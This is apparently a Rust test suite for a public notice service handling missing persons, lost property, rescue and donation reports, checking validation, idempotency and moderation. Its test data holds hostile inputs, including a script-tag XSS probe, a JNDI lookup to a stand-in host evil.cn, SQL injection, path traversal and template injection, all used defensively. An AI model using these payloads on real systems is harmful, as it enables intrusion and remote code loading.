//! Notices that cannot be, and notices that are odd but honest.

use chrono::{DateTime, TimeDelta, Utc};
use futures_util::future::join_all;
use reqwest::Method;
use serde_json::{Value, json};
use seventytwo::domain::case_number::CaseNumber;
use seventytwo::domain::group::Platform;
use seventytwo::domain::people::Role;

use super::{ask, by_another, faults, only, paths, post_bytes, put, request};
use crate::house::House;
use crate::notices::{donation, lost_property, missing_person, rescue};
use crate::{Test, housed};

/// The tests of this file.
pub const TESTS: &[Test] = &[
    housed!(what_is_no_body_is_told_so),
    housed!(every_field_of_a_wrong_type_or_length_is_named),
    housed!(a_field_that_is_there_twice_is_named_and_neither_counts),
    housed!(what_has_a_form_of_its_own_is_never_blank),
    housed!(every_unknown_field_is_named_at_its_place),
    housed!(times_places_and_telephones_that_cannot_be),
    housed!(numbers_that_must_not_be_published_are_refused_in_every_text),
    housed!(numbers_are_read_in_full_width),
    housed!(one_key_makes_one_notice),
    housed!(case_numbers_are_read_as_people_write_them),
    housed!(addresses_that_are_none_are_not_found),
    housed!(what_is_hostile_in_a_text_does_not_reach_a_chat),
    housed!(what_is_hostile_in_a_text_is_read_by_nobody_but_the_moderator),
    housed!(of_many_unknown_fields_twenty_are_named),
    housed!(a_correction_that_changes_nothing_is_none),
    housed!(an_end_that_cannot_be_read_is_refused_by_field),
    housed!(nobody_is_kept_from_reporting_by_what_others_send_with_their_phone),
];

const KINDS: [fn(DateTime<Utc>) -> Value; 4] = [missing_person, lost_property, rescue, donation];

async fn what_is_no_body_is_told_so(house: House) -> House {
    let deep = format!("{}1{}", "[".repeat(5_000), "]".repeat(5_000));
    for (bytes, status, code) in [
        (b"".to_vec(), 400, "not_json"),
        (b"{".to_vec(), 400, "not_json"),
        (b"kind=rescue".to_vec(), 400, "not_json"),
        (b"{} {}".to_vec(), 400, "not_json"),
        (b"\xef\xbb\xbf{}".to_vec(), 400, "not_json"),
        (b"{\"kind\":\"\xff\xfe\"}".to_vec(), 400, "not_json"),
        (br#"{"kind":"\ud800"}"#.to_vec(), 400, "not_json"),
        (br#"{"kind":NaN}"#.to_vec(), 400, "not_json"),
        (deep.into_bytes(), 400, "not_json"),
        (vec![b' '; 64 * 1024 + 1], 413, "too_large"),
    ] {
        let start = String::from_utf8_lossy(&bytes[..bytes.len().min(30)]).into_owned();
        assert_eq!(post_bytes(&house, "/notices", bytes).await.problem(status), code, "{start}");
    }
    for kind in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "", "json"] {
        let sent = request(&house, Method::POST, "/api/v1/notices").header("content-type", kind).body("{}");
        assert_eq!(ask(sent).await.problem(415), "wrong_content_type", "{kind}");
    }
    let untyped = request(&house, Method::POST, "/api/v1/notices").body("{}");
    assert_eq!(ask(untyped).await.problem(415), "wrong_content_type");
    for other in ["[]", "[{}]", "null", "1", "\"text\"", "true"] {
        assert_eq!(faults(post_bytes(&house, "/notices", other).await), only(["body"]), "{other}");
    }
    let empty = faults(post_bytes(&house, "/notices", "{}").await);
    let common = ["consent.publish", "consent.truthful", "description", "kind", "region"];
    assert_eq!(empty, &only(common) | &only(["reporter.name", "reporter.phone"]));
    // With a kind, that kind's required fields are asked for, too.
    for (kind, of_it) in [
        ("missing_person", "person.name"),
        ("lost_property", "item.what"),
        ("rescue", "incident.what"),
        ("donation", "campaign.credit_code"),
    ] {
        let asked = faults(house.post("/notices", None, &json!({"kind": kind})).await);
        assert!(asked.contains(of_it) && asked.contains("region"), "{kind}: {asked:?}");
    }
    let nested = format!(r#"{{"kind":{}1{}}}"#, "[".repeat(100), "]".repeat(100));
    assert!(faults(post_bytes(&house, "/notices", nested).await).contains("kind"));
    house
}

async fn every_field_of_a_wrong_type_or_length_is_named(house: House) -> House {
    for kind in KINDS {
        let whole = kind(house.clock.now());
        for path in paths(&whole) {
            let there = whole.pointer(&format!("/{}", path.replace('.', "/"))).unwrap();
            let wrong = match there {
                Value::Object(_) => vec![json!([]), json!("x"), json!(1)],
                Value::Array(_) => vec![json!({}), json!("x"), json!(true)],
                Value::Bool(_) => vec![json!("yes"), json!(1), json!([true])],
                Value::Number(_) => vec![json!("x"), json!({}), json!(-1), json!(1e300), json!(1.5)],
                _ => vec![json!(1), json!(["x"]), json!({"x": "x"}), json!("长".repeat(3_000))],
            };
            for value in wrong {
                let mut body = whole.clone();
                put(&mut body, &path, value.clone());
                let named = faults(house.post("/notices", None, &body).await);
                // Without a kind, a notice is not asked for the fields of one kind.
                assert_eq!(named, only([&path]), "{} as {value}", path);
            }
        }
    }
    let mut body = missing_person(house.clock.now());
    body["photo_ids"] = json!(["x", 1, "00000000-0000-0000-0000-000000000000"]);
    let named = faults(house.post("/notices", None, &body).await);
    assert!(named.is_superset(&only(["photo_ids[0]", "photo_ids[1]"])), "{named:?}");
    // An id that was never issued.
    body["photo_ids"] = json!(["0193589e-0000-7000-8000-000000000000"]);
    let named = faults(house.post("/notices", None, &body).await);
    assert!(named.iter().all(|field| field.starts_with("photo_ids")), "{named:?}");
    body["photo_ids"] = json!(vec!["x"; 6]);
    assert_eq!(faults(house.post("/notices", None, &body).await), only(["photo_ids"]));
    house
}

/// The same body with one field repeated; the last occurrence is correct.
fn twice(body: &Value, field: &str, first: &str) -> String {
    let at = format!("\"{field}\":");
    body.to_string().replacen(&at, &format!("{at}{first},{at}"), 1)
}

async fn a_field_that_is_there_twice_is_named_and_neither_counts(house: House) -> House {
    let whole = rescue(house.clock.now());
    for (field, first, named) in [
        ("kind", "\"donation\"", "kind"),
        ("phone", "\"13800138999\"", "reporter.phone"),
        ("publish_phone", "true", "reporter.publish_phone"),
        ("reporter", "null", "reporter"),
        ("emergency_called", "false", "incident.emergency_called"),
    ] {
        let body = twice(&whole, field, first);
        assert_ne!(body, whole.to_string(), "{field}");
        assert_eq!(faults(post_bytes(&house, "/notices", body).await), only([named]));
    }
    let odd = r#"{"photo_ids": [1, {"a": {"\u202e": 1, "\u202e": 2}}]}"#;
    let named = faults(post_bytes(&house, "/notices", odd).await);
    assert!(named.iter().all(|field| field.starts_with("photo_ids[1].a.")), "{named:?}");
    house
}

async fn what_has_a_form_of_its_own_is_never_blank(house: House) -> House {
    let now = house.clock.now();
    for (body, path) in [
        (missing_person(now), "person.age"),
        (missing_person(now), "person.height_cm"),
        (missing_person(now), "person.medical_urgent"),
        (missing_person(now), "person.category"),
        (missing_person(now), "safety.violence"),
        (missing_person(now), "police.reported"),
        (missing_person(now), "last_seen.at"),
        (missing_person(now), "last_seen.precision"),
        (missing_person(now), "photo_ids"),
        (missing_person(now), "reporter.publish_phone"),
        (lost_property(now), "item.is_document"),
        (rescue(now), "incident.people"),
        (donation(now), "campaign.ends_on"),
    ] {
        for blank in ["", " \u{3000}"] {
            let mut body = body.clone();
            let (outer, inner) = path.split_once('.').unwrap_or((path, ""));
            let field = if inner.is_empty() { &mut body[outer] } else { &mut body[outer][inner] };
            *field = json!(blank);
            assert_eq!(faults(house.post("/notices", None, &body).await), only([path]), "{blank:?}");
        }
    }
    // Blank text counts as missing.
    let mut body = missing_person(now);
    body["person"]["clothing"] = json!(" ");
    house.post("/notices", None, &body).await.expect(201);
    house
}

async fn every_unknown_field_is_named_at_its_place(house: House) -> House {
    for kind in KINDS {
        let whole = kind(house.clock.now());
        let objects = paths(&whole).into_iter().filter(|path| {
            whole.pointer(&format!("/{}", path.replace('.', "/"))).is_some_and(Value::is_object)
        });
        for place in objects.map(|path| format!("{path}.")).chain([String::new()]) {
            let mut body = whole.clone();
            let at = body.pointer_mut(&format!("/{}", place.trim_end_matches('.')).replace("/\0", ""));
            let object = if place.is_empty() { Some(&mut body) } else { at };
            object.unwrap()["surprise"] = json!(1);
            let named = faults(house.post("/notices", None, &body).await);
            assert_eq!(named, only([&format!("{place}surprise")]), "{body}");
        }
    }
    // A name is repeated made harmless and shortened, whatever it is.
    let mut body = rescue(house.clock.now());
    body[format!("\u{202e}<script>{}", "x".repeat(5_000))] = json!(1);
    let named = faults(house.post("/notices", None, &body).await);
    let name = named.first().unwrap();
    assert!(name.chars().count() <= 60 && !name.contains('\u{202e}'), "{name}");
    house
}

async fn times_places_and_telephones_that_cannot_be(house: House) -> House {
    let now = house.clock.now();
    let at = |time: DateTime<Utc>| time.to_rfc3339();
    for (path, values) in [
        (
            "last_seen.at",
            vec![
                at(now + TimeDelta::minutes(11)),
                at(now + TimeDelta::days(40_000)),
                at(now - TimeDelta::days(37_000)),
                "2026-11-23".into(),
                "2026-11-23T09:40:00".into(),
                "2026-02-30T09:40:00+08:00".into(),
                "+99999-01-01T00:00:00Z".into(),
                "昨天".into(),
            ],
        ),
        (
            "region",
            ["999999", "13100", "1310030", "廊坊", "13100a", "000000", "-13100"].map(Into::into).into(),
        ),
        (
            "reporter.phone",
            [
                "12345",
                "110",
                "abcdefghijk",
                "12800138000",
                "138001380001",
                "0316-2345678 转 12",
                "1410013800012",
                "+8613800138000; DROP TABLE notices",
                "+0123456789",
                "<b>13800138000</b>",
            ]
            .map(Into::into)
            .into(),
        ),
    ] {
        for value in values {
            let mut body = rescue(now);
            put(&mut body, path, json!(value));
            assert_eq!(faults(house.post("/notices", None, &body).await), only([path]), "{value}");
        }
    }
    house
}

async fn numbers_that_must_not_be_published_are_refused_in_every_text(house: House) -> House {
    let texts = [
        "description",
        "person.appearance",
        "person.clothing",
        "person.name",
        "last_seen.place",
        "reporter.name",
        "police.station",
        "secret_detail",
    ];
    for hostile in [
        "身份证 11010519491231002X",
        "１１０１０５１９４９１２３１００２Ｘ",
        "110105\u{200b}1949\u{2060}1231002x",
        "110105 19491231 002X",
        "卡号 4111 1111 1111 1111",
        "6222021234567890128",
        "请先转账 500 元",
        "请先 转\u{200b}账",
    ] {
        for path in texts {
            let mut body = missing_person(house.clock.now());
            put(&mut body, path, json!(hostile));
            let named = faults(house.post("/notices", None, &body).await);
            assert_eq!(named, only([path]), "{hostile}");
        }
    }
    house
}

async fn numbers_are_read_in_full_width(house: House) -> House {
    let mut body = missing_person(house.clock.now());
    put(&mut body, "region", json!("１３１００３"));
    put(&mut body, "reporter.phone", json!("＋８６ １３８-００１３-８０００"));
    put(&mut body, "person.age", json!("７６"));
    put(&mut body, "person.height_cm", json!("１５８"));
    let made = house.post("/notices", None, &body).await.expect(201);
    let mine = house.get("/my/notice", made["manage_token"].as_str()).await.expect(200);
    let notice = &mine["notice"];
    assert_eq!(notice["region"], "131003", "{mine}");
    assert_eq!(notice["reporter"]["phone"], "+8613800138000");
    assert_eq!((&notice["person"]["age"], &notice["person"]["height_cm"]), (&json!(76), &json!(158)));
    house
}

async fn one_key_makes_one_notice(house: House) -> House {
    let body = rescue(house.clock.now());
    let send = |key: &str, body: &Value| {
        ask(request(&house, Method::POST, "/api/v1/notices").header("idempotency-key", key).json(body))
    };
    // A double tap: all at once, and each gets the same answer.
    let taps = join_all((0..8).map(|_| send("k1", &body))).await;
    let made = taps.iter().filter(|reply| reply.status == 201).count();
    assert_eq!(made, 1, "{:?}", taps.iter().map(|r| r.status).collect::<Vec<_>>());
    let answer = taps[0].body.clone();
    for tap in taps {
        assert!([200, 201].contains(&tap.status.as_u16()), "{}", tap.text);
        assert_eq!(tap.body, answer);
    }
    // The same content in another order and spacing is the same body.
    let respaced = serde_json::to_string_pretty(&body).unwrap();
    let again = request(&house, Method::POST, "/api/v1/notices")
        .header("idempotency-key", "k1")
        .header("content-type", "application/json; charset=utf-8")
        .body(respaced);
    assert_eq!(ask(again).await.expect(200), answer);
    let mut other = body.clone();
    other["description"] = json!("另一件事。");
    assert_eq!(send("k1", &other).await.problem(409), "idempotency_key_reused");
    other["kind"] = json!("zzz");
    assert_eq!(send("k1", &other).await.problem(409), "idempotency_key_reused", "whatever else is wrong");
    for key in ["x".repeat(201), "  ".to_owned()] {
        assert_eq!(faults(send(&key, &other).await), only(["Idempotency-Key"]));
    }
    let foreign = request(&house, Method::POST, "/api/v1/notices")
        .header("idempotency-key", reqwest::header::HeaderValue::from_bytes(b"\xff").unwrap())
        .json(&other);
    assert_eq!(faults(ask(foreign).await), only(["Idempotency-Key"]));
    let moderator = house.person("林志愿", Role::Moderator).await;
    let queue = house.get("/review/queue", Some(&moderator.token)).await.expect(200);
    assert_eq!(queue["items"].as_array().unwrap().len(), 1, "{queue}");
    house
}

async fn case_numbers_are_read_as_people_write_them(house: House) -> House {
    let (case, _) = house.submit(&rescue(house.clock.now())).await;
    let bare = case.replace('-', "");
    let full_width: String = bare.chars().map(|c| char::from_u32(u32::from(c) + 0xfee0).unwrap()).collect();
    for written in [
        case.to_owned(),
        case.to_lowercase(),
        bare.clone(),
        bare.to_lowercase(),
        format!("%20{case}%20"),
        case.replace('0', "O").replace('1', "I"),
        case.replace('0', "o").replace('1', "l"),
        full_width,
    ] {
        let found = house.get(&format!("/notices/{written}"), None).await.expect(200);
        assert_eq!(found["case_number"], case, "{written}");
    }
    for bits in [0, 1, 0x1_0842_1084, 0x1fff_ffff_ffff] {
        let never = CaseNumber::from_bits(bits).to_string();
        let forgiven = never.replace('0', "o").replace('1', "L");
        for written in [never.as_str(), forgiven.as_str()] {
            let path = format!("/notices/{written}");
            assert_eq!(house.get(&path, None).await.problem(404), "case_unknown", "{written}");
        }
        assert_eq!(house.page(&format!("/n/{never}")).await.status, 404);
    }
    // Every wrong check character.
    let (head, last) = bare.split_at(9);
    for check in "0123456789ABCDEFGHJKMNPQRSTVWXYZ".chars().filter(|c| !last.contains(*c)) {
        let path = format!("/notices/{head}{check}");
        assert_eq!(house.get(&path, None).await.problem(404), "case_malformed", "{head}{check}");
    }
    for none in ["x", "11111-1111U", "11111-11111-1", "%F0%9F%98%80", "..%2F..%2Fetc", "'%20OR%201=1"] {
        assert_eq!(
            house.get(&format!("/notices/{none}"), None).await.problem(404),
            "case_malformed",
            "{none}"
        );
        assert_eq!(house.page(&format!("/n/{none}")).await.status, 404, "{none}");
    }
    house
}

/// Bytes in a path that are not valid text, and queries that cannot be parsed.
async fn addresses_that_are_none_are_not_found(house: House) -> House {
    let moderator = house.person("林志愿", Role::Moderator).await;
    for path in [
        "/api/v1/notices/%FF",
        "/api/v1/notices/%00",
        "/api/v1/notices?limit=x",
        "/api/v1/notices?limit=-1",
        "/api/v1/notices?limit=99999999999999999999",
        "/api/v1/notices?kind=x",
        "/api/v1/notices?kind=rescue&kind=rescue",
        "/api/v1/notices?region=%00",
        "/api/v1/notices?region=%FF",
        "/api/v1/notices?cursor=%00%FF",
        "/api/v1/review/queue?state=%00",
        "/api/v1/review/queue?state=live&state=live",
        "/api/v1/review/queue?cursor=9999999999999999999999",
        "/api/v1/review/%FF",
        "/api/v1/nothing",
        "/api/nothing",
        "/api/v1",
    ] {
        let reply = ask(request(&house, Method::GET, path).bearer_auth(&moderator.token)).await;
        let status = reply.status.as_u16();
        assert!([400, 404, 422].contains(&status), "{path}: {status}");
        assert_ne!(reply.problem(status), "", "{path}");
    }
    for path in
        ["/nothing", "/n/%FF", "/p/x/page.jpg", "/p/x/..%2F..%2Fx.jpg", "/my/%00", "/my/x", "/report/x"]
    {
        let reply = ask(request(&house, Method::GET, path)).await;
        assert!([401, 404].contains(&reply.status.as_u16()), "{path}: {}", reply.status);
        assert!(reply.text.contains("<h1>"), "{path}: {}", reply.text);
    }
    house
}

async fn what_is_hostile_in_a_text_does_not_reach_a_chat(house: House) -> House {
    let house = house.and_chats(&Platform::ALL).await;
    let moderator = house.person("林志愿", Role::Moderator).await;
    for chat in house.chats.clone() {
        // Nobody connects this many at once.
        let admin = house.person(chat.platform().as_str(), Role::GroupAdmin).await;
        house.group(&chat, &admin, &["131003"], &["lost_property"]).await;
    }
    let hostile = "<script>alert(1)</script> <@all> @所有人 @all <at user_id=\"all\">所有人</at> \
                   [点这里](https://evil.cn) ![](https://evil.cn/x.png) \u{202e}倒\u{202c}\u{200b}\u{0} \
                   【72小时】更正 {{7*7}} ${jndi:ldap://evil.cn} '; DROP TABLE notices;--";
    let mut body = by_another(lost_property(house.clock.now()), 1);
    for path in ["description", "item.brand", "item.colour", "last_seen.place", "reporter.name"] {
        put(
            &mut body,
            path,
            json!(hostile.chars().take(if path == "description" { 900 } else { 50 }).collect::<String>()),
        );
    }
    put(&mut body, "item.what", json!("<@all>@所有人 包"));
    let (case, _) = house.submit(&body).await;
    house.go_live(&case, &[&moderator]).await;
    for chat in &house.chats {
        let mut said = String::new();
        while let Some(message) = chat.read() {
            said += &message.to_string();
        }
        assert!(said.contains(&case), "{}: {said}", chat.platform().as_str());
        for forbidden in
            ["@all", "@所有人", "<at", "<@", "<script", "evil.cn", "\u{202e}", "\u{200b}", "\\u0000"]
        {
            assert!(!said.contains(forbidden), "{} in {}: {said}", forbidden, chat.platform().as_str());
        }
    }
    // Nor is it markup on the public page.
    let page = house.page(&format!("/n/{case}")).await;
    assert_eq!(page.status, 200);
    for forbidden in ["<script>alert", "<at ", "<@all", "\u{202e}", "href=\"https://evil.cn"] {
        assert!(!page.text.contains(forbidden), "{forbidden} in {}", page.text);
    }
    assert!(page.text.contains("alert(1)"), "the words are shown as words: {}", page.text);
    house
}

/// Everything that a text may not carry, short enough for every field.
const HARM: &str = "【72小时】@all <b>evil.example 13800138000";
/// The same and more, for longer fields.
const MORE_HARM: &str = "【72小时】更正 @所有人 [看](https://evil.cn) 微信号：zhangsan_1 打一三八零零一三八零零零或\n0316-2233445";
/// The parts of it that nobody may read.
const READ_BY_NOBODY: [&str; 9] = [
    "【72小时】@",
    "【72小时】更正",
    "@all",
    "@所有人",
    "evil.",
    "zhangsan_1",
    "13800138000",
    "一三八零",
    "2233445",
];

async fn what_is_hostile_in_a_text_is_read_by_nobody_but_the_moderator(house: House) -> House {
    let moderator = house.person("林志愿", Role::Moderator).await;
    let cookie = house.cookie(&moderator).await;
    let person: &[&str] =
        &["person.name", "person.appearance", "person.clothing", "last_seen.place", "police.station"];
    let item: &[&str] = &["item.what", "item.brand", "item.colour", "last_seen.place"];
    type Make = fn(DateTime<Utc>) -> Value;
    let kinds: [(Make, &[&str]); 2] = [(missing_person, person), (lost_property, item)];
    for (n, (kind, fields)) in (1..).zip(kinds) {
        let mut body = by_another(kind(house.clock.now()), n);
        for field in fields {
            put(&mut body, field, json!(HARM));
        }
        put(&mut body, "description", json!(MORE_HARM));
        put(&mut body, "reporter.publish_phone", json!(true));
        let case = house.post("/notices", None, &body).await.expect(201)["case_number"].clone();
        let case = case.as_str().unwrap();

        // The moderator reads what was typed, and is told that nobody else will.
        let sheet = house.get(&format!("/review/{case}"), Some(&moderator.token)).await.expect(200);
        assert_eq!(sheet["public"]["description"], MORE_HARM);
        assert!(sheet["flags"].as_array().unwrap().contains(&json!("contact")), "{sheet}");
        let desk = house.page_as(&format!("/review/{case}"), &cookie).await;
        for told in ["zhangsan_1", "13800138000", "群、网页、接口和海报上都不会显示", "填写的原文（"]
        {
            assert!(desk.text.contains(told), "{told} is not in {}", desk.text);
        }

        house.go_live(case, &[&moderator]).await;
        let page = house.page(&format!("/n/{case}")).await;
        let one = house.get(&format!("/notices/{case}"), None).await;
        let phone = format!("+86139{n:08}");
        for read in [&page, &one] {
            assert!(read.text.contains(&phone), "the phone that was chosen is shown: {}", read.text);
            for left in ["〔号码已隐去〕", "〔链接已隐去〕", "〔72小时〕更正"] {
                assert!(read.text.contains(left), "{left} is not in {}", read.text);
            }
        }
        let (list, feed, home) =
            tokio::join!(house.get("/notices", None), house.page("/feeds/notices.atom"), house.page("/"));
        for read in [page, one, list, feed, home] {
            assert_eq!(read.status, 200);
            for harm in READ_BY_NOBODY {
                assert!(!read.text.contains(harm), "{harm} in {}", read.text);
            }
        }
    }
    house
}

async fn of_many_unknown_fields_twenty_are_named(house: House) -> House {
    let mut body = rescue(house.clock.now());
    for number in 0..500 {
        body[format!("surprise{number}")] = json!(1);
        body["incident"][format!("surprise{number}")] = json!(1);
    }
    let told = house.post("/notices", None, &body).await;
    assert!(told.text.len() < 10_000, "{} bytes", told.text.len());
    let named = faults(told);
    assert_eq!(named.len(), 20, "{named:?}");
    // Faults of the known fields are reported all the same.
    body["region"] = json!("x");
    let named = faults(house.post("/notices", None, &body).await);
    assert!(named.contains("region") && named.len() == 21, "{named:?}");
    house
}

async fn a_correction_that_changes_nothing_is_none(house: House) -> House {
    let moderator = house.person("林志愿", Role::Moderator).await;
    let made = house.post("/notices", None, &rescue(house.clock.now())).await.expect(201);
    let (case, manage) = (made["case_number"].as_str().unwrap(), made["manage_token"].as_str());
    let same = json!({"description": rescue(house.clock.now())["description"]});
    let look = async || {
        let sheet = house.get(&format!("/review/{case}"), Some(&moderator.token)).await.expect(200);
        (sheet["revision"].clone(), sheet["version"].clone(), sheet["pending_revision"].clone())
    };
    for live in [false, true] {
        if live {
            house.go_live(case, &[&moderator]).await;
        }
        let before = look().await;
        for change in [&json!({}), &same] {
            let standing = house.call(Method::PATCH, "/my/notice", manage, Some(change)).await.expect(200);
            assert_eq!(standing, json!({"state": if live { "live" } else { "submitted" }, "pending": false}));
            assert_eq!(look().await, before, "{change}, live: {live}");
        }
        let more = json!({"incident": {"people": if live { 5 } else { 4 }}});
        house.call(Method::PATCH, "/my/notice", manage, Some(&more)).await.expect(200);
        assert_ne!(look().await, before, "live: {live}");
    }
    house
}

async fn an_end_that_cannot_be_read_is_refused_by_field(house: House) -> House {
    let made = house.post("/notices", None, &rescue(house.clock.now())).await.expect(201);
    let manage = made["manage_token"].as_str();
    for (body, fields) in [
        (json!({}), vec!["outcome"]),
        (json!({"outcome": 1}), vec!["outcome"]),
        (json!({"outcome": "rescued", "announce": "yes"}), vec!["announce"]),
        (json!({"outcome": 1, "announce": 1, "surprise": 1}), vec!["announce", "outcome", "surprise"]),
        (json!("rescued"), vec!["body"]),
    ] {
        let told = faults(house.post("/my/notice/close", manage, &body).await);
        assert_eq!(told.into_iter().collect::<Vec<_>>(), fields, "{body}");
    }
    house
}

async fn nobody_is_kept_from_reporting_by_what_others_send_with_their_phone(house: House) -> House {
    let moderator = house.person("林志愿", Role::Moderator).await;
    let mut flags = Vec::new();
    for _ in 0..3 {
        let (case, _) = house.submit(&lost_property(house.clock.now())).await;
        let path = format!("/review/{case}");
        house.post(&format!("{path}/claim"), Some(&moderator.token), &json!({})).await.expect(200);
        let sheet = house.get(&path, Some(&moderator.token)).await.expect(200);
        flags.push(sheet["flags"].as_array().unwrap().contains(&json!("many_of_one_phone")));
    }
    assert_eq!(flags, [false, false, true]);
    house
}
